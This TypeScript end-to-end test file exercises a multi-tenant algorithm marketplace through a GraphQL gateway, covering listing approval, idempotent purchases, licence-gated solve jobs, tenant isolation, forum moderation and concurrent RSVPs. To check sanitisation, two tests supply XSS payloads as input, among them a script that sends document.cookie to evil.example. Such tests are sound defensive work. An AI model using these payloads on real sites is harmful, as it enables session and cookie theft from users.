import { dataOf, errorCodes } from '../support/gateway-client';
import { eventually } from '../support/eventually';
import { useTestPlatform } from '../support/test-platform';

jest.setTimeout(120_000);

const SUBMIT = 'mutation ($input: SubmitAlgorithmInput!) { submitAlgorithm(input: $input) { id status version documentationHtml } }';
const VALIDATE = 'query ($input: SubmitAlgorithmInput!) { validateAlgorithm(input: $input) { valid problems { field code } } }';
const REVIEW = 'mutation ($input: ReviewAlgorithmInput!) { reviewAlgorithm(input: $input) { id status } }';
const DISCOVER = `query ($criteria: DiscoverAlgorithmsInput!) {
  discoverAlgorithms(criteria: $criteria) {
    totalCount
    edges { cursor node { id name } }
    pageInfo { hasNextPage }
    facets { category { value count } complexity { value count } priceBands { value count } license { value count } }
  }
}`;
const PURCHASE = 'mutation ($input: PurchaseAlgorithmInput!) { purchaseAlgorithm(input: $input) { id tenantId algorithmId version licenseType price status } }';
const LICENSES = 'query ($t: ID!) { licenses(tenantId: $t) { edges { node { id } } } }';
const INVOICES = 'query ($t: ID!) { invoices(tenantId: $t) { edges { node { id total } } } }';
const LICENSE = 'query ($id: ID!) { license(id: $id) { id } }';
const SUBMIT_JOB = 'mutation ($input: OptimizeQuboInput!) { submitSolveJob(input: $input) { id algorithmId algorithmVersion strategy } }';
const JOB = 'query ($id: ID!) { solveJob(id: $id) { status } }';
const SOLVE_JOBS = 'query ($t: ID!) { solveJobs(tenantId: $t) { edges { node { id } } } }';
const RATE = 'mutation ($input: RateAlgorithmInput!) { rateAlgorithm(input: $input) { ratingAverage ratingCount } }';

const QUBO = { variables: ['a', 'b', 'c'], linear: [{ variable: 'a', coefficient: -1 }, { variable: 'b', coefficient: -2 }], quadratic: [{ u: 'a', v: 'b', coefficient: 3 }] };

/**
 * The walk through the community platform, one tenant selling, another buying, as users
 * of each would: submit → validate → approve → discover (text and facets) → purchase twice with
 * one key → run a solve job with the algorithm (refused before the purchase) → rate; a tutorial
 * with a script stored harmless; a hidden post and its author's appeal; 50 concurrent RSVPs on 10
 * seats; and a third tenant that never sees the purchase, the licence or the invoice.
 */
describe('the community platform, end to end through the gateway', () => {
  const goliath = useTestPlatform({ env: { SOLVER_WORKERS: '1' } });
  let seller: string;
  let buyer: string;
  let bystander: string;
  let sellerDeveloper: string;
  let buyerAdmin: string;
  let buyerAnalyst: string;
  let bystanderAdmin: string;
  let moderator: string;

  beforeAll(async () => {
    let operators: string;
    [seller, buyer, bystander, operators] = await goliath.createTenants('Seller', 'Buyer', 'Bystander', 'Operators');
    sellerDeveloper = await goliath.token('DEVELOPER', seller, 'sam');
    buyerAdmin = await goliath.token('TENANT_ADMIN', buyer, 'bea');
    buyerAnalyst = await goliath.token('ANALYST', buyer, 'ben');
    bystanderAdmin = await goliath.token('TENANT_ADMIN', bystander, 'bo');
    moderator = await goliath.token('MODERATOR', operators, 'mona');
  });

  it('sells a listing, licenses it once for two identical requests, runs it only with the licence, and keeps the purchase the buyer\'s', async () => {
    // Given a listing whose documentation tries to inject a script
    const input = {
      name: 'Lattice annealer',
      description: 'Anneals lattice portfolio problems',
      category: 'Finance',
      complexity: 'Advanced',
      price: 30,
      currency: 'USD',
      licenseTerms: 'Internal use only.',
      recipe: { strategy: 'TABU', timeLimitMs: 50, parameters: { tabuIterations: 2000 }, problemClasses: ['portfolio'] },
      documentation: '# Lattice\n\nUse it <img src="x" onerror="alert(1)"> wisely. <script>alert(2)</script>',
    };
    const validation = dataOf(await goliath.call<{ validateAlgorithm: { valid: boolean; problems: { code: string }[] } }>(VALIDATE, { input }, sellerDeveloper)).validateAlgorithm;
    expect(validation.valid).toBe(true);
    expect(validation.problems.map((problem) => problem.code)).toEqual(['DOCUMENTATION_SANITISED']);
    const asMutation = await goliath.call<{ validateAlgorithm: unknown }>(VALIDATE.replace(/^query/, 'mutation'), { input }, sellerDeveloper);
    expect(dataOf(asMutation).validateAlgorithm).toEqual(validation);

    // When it is submitted and approved
    const listing = dataOf(await goliath.call<{ submitAlgorithm: { id: string; status: string; documentationHtml: string } }>(SUBMIT, { input }, sellerDeveloper)).submitAlgorithm;
    expect(listing.status).toBe('SUBMITTED');
    expect(listing.documentationHtml).not.toMatch(/<script|onerror|alert\(2\)/);
    const undiscovered = dataOf(await goliath.call<{ discoverAlgorithms: { totalCount: number } }>(DISCOVER, { criteria: { text: 'lattice' } }, buyerAdmin)).discoverAlgorithms;
    expect(undiscovered.totalCount).toBe(0);
    expect(dataOf(await goliath.call<{ reviewAlgorithm: { status: string } }>(REVIEW, { input: { algorithmId: listing.id, decision: 'APPROVE', reason: 'Recipe checked' } }, moderator)).reviewAlgorithm.status).toBe('APPROVED');

    // Then the buyer discovers it by text, with facets
    const found = dataOf(await goliath.call<{ discoverAlgorithms: { totalCount: number; edges: { node: { id: string } }[]; facets: Record<string, { value: string; count: number }[]> } }>(DISCOVER, { criteria: { text: 'lattice portfolio', category: 'Finance', maxPrice: 100 } }, buyerAdmin)).discoverAlgorithms;
    expect(found.totalCount).toBe(1);
    expect(found.edges.map((edge) => edge.node.id)).toEqual([listing.id]);
    expect(found.facets.category).toEqual([{ value: 'Finance', count: 1 }]);
    expect(found.facets.license.find((entry) => entry.value === 'PERSONAL')?.count).toBe(1);

    // And cannot run it before buying it: nothing is stored
    const job = { tenantId: buyer, qubo: QUBO, algorithmId: listing.id, seed: 1 };
    const refused = await goliath.call(SUBMIT_JOB, { input: job }, buyerAnalyst);
    expect(errorCodes(refused)).toEqual(['LICENSE_REQUIRED']);
    expect(dataOf(await goliath.call<{ solveJobs: { edges: unknown[] } }>(SOLVE_JOBS, { t: buyer }, buyerAnalyst)).solveJobs.edges).toEqual([]);

    // When the buyer's admin sends the same purchase twice
    const purchase = { algorithmId: listing.id, licenseType: 'PERSONAL', idempotencyKey: 'po-2026-001' };
    const [first, second] = [
      dataOf(await goliath.call<{ purchaseAlgorithm: { id: string } }>(PURCHASE, { input: purchase }, buyerAdmin)).purchaseAlgorithm,
      dataOf(await goliath.call<{ purchaseAlgorithm: { id: string } }>(PURCHASE, { input: purchase }, buyerAdmin)).purchaseAlgorithm,
    ];

    // Then there is one licence and one invoice, at the listed price
    expect(second).toEqual(first);
    expect(first).toMatchObject({ tenantId: buyer, algorithmId: listing.id, version: 1, licenseType: 'PERSONAL', price: 30, status: 'ACTIVE' });
    expect(dataOf(await goliath.call<{ licenses: { edges: unknown[] } }>(LICENSES, { t: buyer }, buyerAdmin)).licenses.edges).toHaveLength(1);
    expect(dataOf(await goliath.call<{ invoices: { edges: { node: { total: number } }[] } }>(INVOICES, { t: buyer }, buyerAdmin)).invoices.edges.map((edge) => edge.node.total)).toEqual([30]);

    // And the solve job runs the recipe
    const submitted = dataOf(await goliath.call<{ submitSolveJob: { id: string; algorithmId: string; algorithmVersion: number; strategy: string } }>(SUBMIT_JOB, { input: job }, buyerAnalyst)).submitSolveJob;
    expect(submitted).toMatchObject({ algorithmId: listing.id, algorithmVersion: 1, strategy: 'TABU' });
    await eventually(async () => expect(dataOf(await goliath.call<{ solveJob: { status: string } }>(JOB, { id: submitted.id }, buyerAnalyst)).solveJob.status).toBe('COMPLETED'), 30_000);

    // And the licence holder rates it
    expect(dataOf(await goliath.call<{ rateAlgorithm: { ratingAverage: number; ratingCount: number } }>(RATE, { input: { algorithmId: listing.id, stars: 5, text: 'Found our best portfolio' } }, buyerAnalyst)).rateAlgorithm).toEqual({ ratingAverage: 5, ratingCount: 1 });

    // And a third tenant sees none of the purchase
    expect(errorCodes(await goliath.call(LICENSES, { t: buyer }, bystanderAdmin))).toEqual(['FORBIDDEN']);
    expect(errorCodes(await goliath.call(INVOICES, { t: buyer }, bystanderAdmin))).toEqual(['FORBIDDEN']);
    expect(errorCodes(await goliath.call(LICENSE, { id: first.id }, bystanderAdmin))).toEqual(['NOT_FOUND']);
    expect(dataOf(await goliath.call<{ licenses: { edges: unknown[] } }>(LICENSES, { t: bystander }, bystanderAdmin)).licenses.edges).toEqual([]);
    expect(dataOf(await goliath.call<{ invoices: { edges: unknown[] } }>(INVOICES, { t: bystander }, bystanderAdmin)).invoices.edges).toEqual([]);
  });

  it('stores a tutorial with a script harmless', async () => {
    const created = await goliath.call<{ createTutorial: { bodyHtml: string } }>('mutation ($input: CreateTutorialInput!) { createTutorial(input: $input) { bodyHtml } }', {
      input: { title: 'Annealing in practice', body: 'Step one <script>fetch("https://evil.example/"+document.cookie)</script> [click](javascript:alert(1)) <a href="#" onclick="x()">here</a>' },
    }, sellerDeveloper);
    const html = dataOf(created).createTutorial.bodyHtml;
    expect(html).toContain('Step one');
    expect(html).not.toMatch(/<script|javascript:|onclick|evil\.example/);
  });

  it("records a moderator's hiding of a post and its author's appeal", async () => {
    const forum = dataOf(await goliath.call<{ createForum: { id: string } }>('mutation { createForum(input: { name: "Help", description: "Questions" }) { id } }', {}, moderator)).createForum;
    const author = await goliath.token('ANALYST', buyer, 'ann');
    const thread = dataOf(await goliath.call<{ createThread: { id: string } }>('mutation ($f: ID!) { createThread(input: { forumId: $f, title: "Cheap licences", body: "Buy them elsewhere" }) { id } }', { f: forum.id }, author)).createThread;
    const moderation = dataOf(
      await goliath.call<{ moderateContent: { id: string } }>('mutation ($c: ID!) { moderateContent(contentId: $c, action: HIDE, reason: "Advertising") { id } }', { c: thread.id }, moderator),
    ).moderateContent;
    const appeal = await goliath.call<{ appealModeration: { id: string; status: string } }>('mutation ($m: ID!) { appealModeration(input: { moderationId: $m, statement: "It was a question" }) { id status } }', { m: moderation.id }, author);
    expect(dataOf(appeal).appealModeration.status).toBe('OPEN');
    const appeals = dataOf(await goliath.call<{ moderationAppeals: { edges: { node: { id: string } }[] } }>('{ moderationAppeals { edges { node { id } } } }', {}, moderator)).moderationAppeals;
    expect(appeals.edges.map((edge) => edge.node.id)).toContain(dataOf(appeal).appealModeration.id);
  });

  it('confirms 10 and waitlists 40 of 50 concurrent RSVPs to an event of capacity 10', async () => {
    const event = dataOf(
      await goliath.call<{ organizeEvent: { id: string } }>('mutation { organizeEvent(input: { title: "QUBO meetup", startsAt: "2027-02-01T17:00:00Z", capacity: 10, onlineUrl: "https://meet.example.com/qubo" }) { id } }', {}, moderator),
    ).organizeEvent;
    const tokens = await Promise.all(Array.from({ length: 50 }, (_, index) => goliath.token('ANALYST', index % 2 === 0 ? buyer : seller, `attendee-${index}`)));
    const answers = await Promise.all(tokens.map((token) => goliath.call<{ rsvp: { status: string } }>('mutation ($e: ID!) { rsvp(eventId: $e) { status } }', { e: event.id }, token)));
    const statuses = answers.map((answer) => dataOf(answer).rsvp.status);
    expect(statuses.filter((status) => status === 'CONFIRMED')).toHaveLength(10);
    expect(statuses.filter((status) => status === 'WAITLISTED')).toHaveLength(40);
  });
});
